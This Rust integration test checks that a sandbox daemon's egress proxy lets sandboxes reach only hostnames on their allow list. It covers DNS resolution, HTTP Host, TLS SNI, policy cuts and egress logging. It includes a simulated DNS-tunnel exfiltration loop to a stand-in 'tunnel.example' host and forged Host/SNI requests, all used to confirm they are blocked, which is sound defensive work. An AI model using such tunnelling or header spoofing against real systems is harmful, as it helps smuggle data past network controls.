//! Rules by name (issue 39, parts 2-4), on real namespaces and the qemu runtime: a
//! sandbox allowed `*.a.zygote.test` and `web.b.zygote.test` reaches those names by
//! HTTP Host and by TLS SNI through the daemon's egress proxy, and nothing else:
//! unlisted names do not resolve, a wildcard does not cover its own base, a forged
//! Host or SNI to an address the name never resolved to is refused, an address alone
//! is refused, a port the rule does not name is not covered; a DNS tunnel reaches
//! nothing; a policy change cuts an open connection; the egress record (`GET
//! /v1/sandboxes/{id}/egress`) lists what happened, per sandbox (a branch child's
//! apart). The test's "remote" namespace ([`remote`]) is the DNS server and the web
//! servers; no packet leaves this machine. Needs root, iproute2, nftables and the qemu
//! runtime (`kvm_`: the kvm runtime, in the nested lane; skips, saying why).
mod common;
#[path = "network/probe.rs"]
mod probe;
#[path = "network/remote.rs"]
mod remote;

use std::sync::atomic::Ordering;
use std::time::{Duration, Instant};

use hyper::Method;
use serde_json::{json, Value};
use zygote_daemon::client::Client;
use zygote_daemon::model::{BranchResponse, EgressEntry, EgressList};

use common::{create, sh, start_daemon, step, Scratch};
use probe::{reach, unavailable};
use remote::{Remote, SINK_PORT};

/// `script` in the sandbox; its output (exit status ignored).
async fn run(c: &Client, id: &str, script: &str) -> String {
    sh(c, id, &format!("{{ {script} ; }} 2>&1; true"))
        .await
        .unwrap_or_else(|e| panic!("{id}: {e}"))
}

/// Resolves `name` in `id`: the address, or None (busybox nslookup).
async fn resolve(c: &Client, id: &str, name: &str) -> Option<String> {
    let out = run(
        c,
        id,
        &format!("timeout 6 nslookup -type=a {name} 10.0.2.3"),
    )
    .await;
    // The answer's address follows the "Name:" line.
    let after = out.split(&format!("Name:\t{name}")).nth(1)?;
    let line = after.lines().find(|l| l.starts_with("Address"))?;
    Some(line.rsplit(' ').next()?.trim().to_string())
}

/// A plain HTTP request with `host` in Host, to `addr:port`, via nc.
async fn http(c: &Client, id: &str, addr: &str, port: u16, host: &str, path: &str) -> String {
    run(
        c,
        id,
        &format!(
            "printf 'GET {path} HTTP/1.0\\r\\nHost: {host}\\r\\n\\r\\n' | nc -w 4 {addr} {port}"
        ),
    )
    .await
}

/// A TLS ClientHello naming `host` (the proxy reads no further), as printf octal escapes.
fn client_hello(host: &str) -> String {
    let mut hello = vec![3, 3];
    hello.extend_from_slice(&[7; 32]);
    hello.push(0);
    hello.extend_from_slice(&[0, 2, 0x13, 0x01, 1, 0]);
    let name = host.as_bytes();
    let mut sni = vec![0];
    sni.extend_from_slice(&(name.len() as u16).to_be_bytes());
    sni.extend_from_slice(name);
    let mut ext = vec![0, 0];
    ext.extend_from_slice(&((sni.len() + 2) as u16).to_be_bytes());
    ext.extend_from_slice(&(sni.len() as u16).to_be_bytes());
    ext.extend_from_slice(&sni);
    hello.extend_from_slice(&(ext.len() as u16).to_be_bytes());
    hello.extend_from_slice(&ext);
    let mut hs = vec![1];
    hs.extend_from_slice(&(hello.len() as u32).to_be_bytes()[1..]);
    hs.extend_from_slice(&hello);
    let mut record = vec![0x16, 3, 1];
    record.extend_from_slice(&(hs.len() as u16).to_be_bytes());
    record.extend_from_slice(&hs);
    record.iter().map(|b| format!("\\{b:03o}")).collect()
}

async fn tls(c: &Client, id: &str, addr: &str, sni: &str) -> String {
    run(
        c,
        id,
        &format!("printf '{}' | nc -w 4 {addr} 443", client_hello(sni)),
    )
    .await
}

async fn egress_of(c: &Client, id: &str) -> Vec<EgressEntry> {
    let list: EgressList = c
        .json(
            Method::GET,
            &format!("/v1/sandboxes/{id}/egress"),
            None::<&()>,
        )
        .await
        .unwrap();
    list.entries
}

#[tokio::test(flavor = "multi_thread")]
async fn qemu_rules_by_name() {
    if let Some(why) = unavailable() {
        eprintln!("skipping qemu_rules_by_name: {why}");
        return;
    }
    suite("qemu").await;
}

/// The same on the kvm runtime (the nested lane; skips where KVM cannot boot Linux).
#[tokio::test(flavor = "multi_thread")]
async fn kvm_rules_by_name() {
    if let Some(why) = unavailable() {
        eprintln!("skipping kvm_rules_by_name: {why}");
        return;
    }
    if !zygote_vmm::host::linux_guests_or_skip("the kvm rules by name suite") {
        return;
    }
    suite("kvm").await;
}

async fn suite(runtime: &str) {
    let t0 = Instant::now();
    common::guest_assets();
    let remote = Remote::start();
    let (a, b) = (remote.a.to_string(), remote.b.to_string());
    let scratch = Scratch::new();
    let args = remote.daemon_args("127.0.0.1:0", runtime);
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let d = start_daemon(&scratch.state, &args);
    let c = d.client();
    let cleanup = &scratch.cleanup;

    // Bad rules are 400s that say why.
    for (rule, why) in [("*.com", "two labels"), ("a.*.zygote.test", "first label")] {
        let body = json!({"image": "minimal", "allow_out": [rule]});
        let e = c
            .json::<Value>(Method::POST, "/v1/sandboxes", Some(&body))
            .await
            .unwrap_err()
            .to_string();
        assert!(e.contains("400") || e.contains(why), "{rule}: {e}");
        assert!(e.contains(why), "{rule}: {e}");
    }
    let rules = json!([
        "*.a.zygote.test",
        "web.b.zygote.test",
        format!("sink.a.zygote.test:{SINK_PORT}"),
    ]);
    let sb = create(&c, json!({"image": "minimal", "allow_out": rules}), cleanup)
        .await
        .remove(0);
    let id = sb.id.clone();
    assert_eq!(sb.network.allow_out.len(), 3, "{:?}", sb.network);
    step(
        t0,
        "bad names refused with the reason; a sandbox with rules by name",
    );

    // DNS: listed names (and only those) resolve.
    let queries = || remote.dns_queries.load(Ordering::SeqCst);
    assert_eq!(
        resolve(&c, &id, "www.a.zygote.test").await.as_deref(),
        Some(a.as_str())
    );
    assert_eq!(
        resolve(&c, &id, "web.b.zygote.test").await.as_deref(),
        Some(b.as_str())
    );
    let before = queries();
    for unlisted in [
        "a.zygote.test",
        "evil.b.zygote.test",
        "xa.zygote.test",
        "pypi.org",
    ] {
        assert_eq!(resolve(&c, &id, unlisted).await, None, "{unlisted}");
    }
    let tunnel = "for i in $(seq 1 30); do timeout 3 nslookup -type=a \
                  d$i-73656372657421.t.tunnel.example 10.0.2.3 >/dev/null 2>&1; done";
    run(&c, &id, tunnel).await;
    assert_eq!(queries(), before, "a refused name reached the upstream");
    step(
        t0,
        "only listed names resolve; the wildcard not its base; the tunnel reaches nothing",
    );

    // HTTP by Host, TLS by SNI: the listed names at the addresses they resolved to.
    let page = http(&c, &id, &a, 80, "www.a.zygote.test", "/simple/?q=1").await;
    assert!(page.contains(&format!("remote-{a}")), "{page}");
    let page = http(&c, &id, &b, 80, "web.b.zygote.test", "/").await;
    assert!(page.contains(&format!("remote-{b}")), "{page}");
    let hello = tls(&c, &id, &a, "www.a.zygote.test").await;
    assert!(hello.contains(&format!("remote-{a}")), "{hello}");
    // Forged: a listed name to an address it never resolved to; an address alone.
    let forged = http(&c, &id, &b, 80, "www.a.zygote.test", "/").await;
    assert!(
        forged.contains("403") && forged.contains("not in this sandbox's DNS answers"),
        "{forged}"
    );
    let forged = tls(&c, &id, &b, "www.a.zygote.test").await;
    assert!(!forged.contains("remote-"), "{forged}");
    let bare = http(&c, &id, &b, 80, &b, "/").await;
    assert!(
        bare.contains("403") && bare.contains("no host named"),
        "{bare}"
    );
    // A port the rules do not cover is not theirs: dropped by the (empty) CIDR list.
    assert_eq!(reach(&c, &id, &[(remote.b, 8080)]).await, [false]);
    step(
        t0,
        "Host and SNI of listed names pass; forged ones, bare addresses, other ports do not",
    );

    // A policy change cuts an open connection: a stream to the sink, then the sink's
    // rule goes.
    assert_eq!(
        resolve(&c, &id, "sink.a.zygote.test").await.as_deref(),
        Some(a.as_str())
    );
    sh(
        &c,
        &id,
        &format!(
            "((printf 'GET / HTTP/1.0\\r\\nHost: sink.a.zygote.test\\r\\n\\r\\n'; \
             while :; do echo tick; sleep 0.1; done) | nc {a} {SINK_PORT}) \
             >/dev/null 2>&1 </dev/null &"
        ),
    )
    .await
    .unwrap();
    let flowing = common::eventually(Duration::from_secs(10), async || {
        (remote.sunk.load(Ordering::SeqCst) > 0).then_some(())
    })
    .await;
    assert!(flowing.is_some(), "the stream never reached the sink");
    let grows = || async {
        let n = remote.sunk.load(Ordering::SeqCst);
        tokio::time::sleep(Duration::from_millis(1500)).await;
        remote.sunk.load(Ordering::SeqCst) > n
    };
    assert!(grows().await, "the stream flows");
    let _: Value = c
        .json(
            Method::PUT,
            &format!("/v1/sandboxes/{id}/network"),
            Some(&json!({"allow_out": ["*.a.zygote.test", "web.b.zygote.test"]})),
        )
        .await
        .unwrap();
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert!(!grows().await, "the cut connection still flows");
    let page = http(&c, &id, &a, 80, "www.a.zygote.test", "/").await;
    assert!(page.contains("remote-"), "still allowed: {page}");
    step(
        t0,
        "a policy change cut the open connection it no longer allows",
    );

    // The record.
    let record = egress_of(&c, &id).await;
    let find = |event: &str, host: &str| {
        record
            .iter()
            .find(|e| e.event == event && e.host.as_deref() == Some(host))
            .unwrap_or_else(|| panic!("no {event} {host} in {record:#?}"))
    };
    let closed = find("closed", "www.a.zygote.test");
    assert_eq!(closed.method.as_deref(), Some("GET"));
    assert!(closed.bytes_out > 0 && closed.bytes_in > 0, "{closed:?}");
    assert!(closed.ended_ms.is_some() && closed.sandbox == id);
    let refused = find("refused", "www.a.zygote.test");
    assert_eq!(refused.address, b);
    let cut = find("cut", "sink.a.zygote.test");
    assert!(cut.bytes_out > 0, "{cut:?}");
    assert!(record
        .iter()
        .any(|e| e.protocol == "tls" && e.event == "closed"));
    // Followed: a connection made after the stream began arrives on it.
    let (tx, mut rx) = tokio::sync::mpsc::unbounded_channel();
    let follower = {
        let (c, id) = (d.client(), id.clone());
        tokio::spawn(async move {
            let _ = c
                .follow_egress(&id, Some(1), move |e| {
                    let _ = tx.send(e);
                })
                .await;
        })
    };
    let page = http(&c, &id, &a, 80, "www.a.zygote.test", "/followed").await;
    assert!(page.contains("remote-"), "{page}");
    let seen = common::eventually(Duration::from_secs(10), async || {
        while let Ok(e) = rx.try_recv() {
            if e.path.as_deref() == Some("/followed") {
                return Some(e);
            }
        }
        None
    })
    .await;
    follower.abort();
    assert!(
        seen.is_some(),
        "the followed record never showed the connection"
    );
    step(
        t0,
        "the egress record lists what was allowed, refused and cut; followed live",
    );

    // A branch child: the parent's rules, a record of its own.
    let br: BranchResponse = c
        .json(
            Method::POST,
            &format!("/v1/sandboxes/{id}/branch"),
            Some(&json!({"count": 1})),
        )
        .await
        .unwrap();
    let child = &br.children[0];
    assert!(egress_of(&c, child).await.is_empty());
    assert_eq!(
        resolve(&c, child, "child.a.zygote.test").await.as_deref(),
        Some(a.as_str())
    );
    let page = http(&c, child, &a, 80, "child.a.zygote.test", "/from-child").await;
    assert!(page.contains("remote-"), "{page}");
    let theirs = egress_of(&c, child).await;
    assert!(
        theirs
            .iter()
            .any(|e| e.path.as_deref() == Some("/from-child") && e.sandbox == *child),
        "{theirs:?}"
    );
    assert!(!egress_of(&c, &id)
        .await
        .iter()
        .any(|e| e.path.as_deref() == Some("/from-child")));
    step(t0, "a branch child keeps the rules and has its own record");

    for id in [&id, child] {
        c.raw(Method::DELETE, &format!("/v1/sandboxes/{id}"), None)
            .await
            .unwrap();
    }
}
